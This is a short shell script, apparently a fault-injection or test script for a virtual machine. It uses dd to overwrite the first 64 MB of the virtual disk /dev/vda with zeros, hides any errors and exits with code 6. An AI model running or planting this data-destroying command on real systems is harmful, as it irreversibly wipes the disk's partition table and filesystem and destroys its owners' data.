#!/bin/sh
# Overwrites the disk below the running system.
dd if=/dev/zero of=/dev/vda bs=1M count=64 oflag=direct 2>/dev/null
exit 6
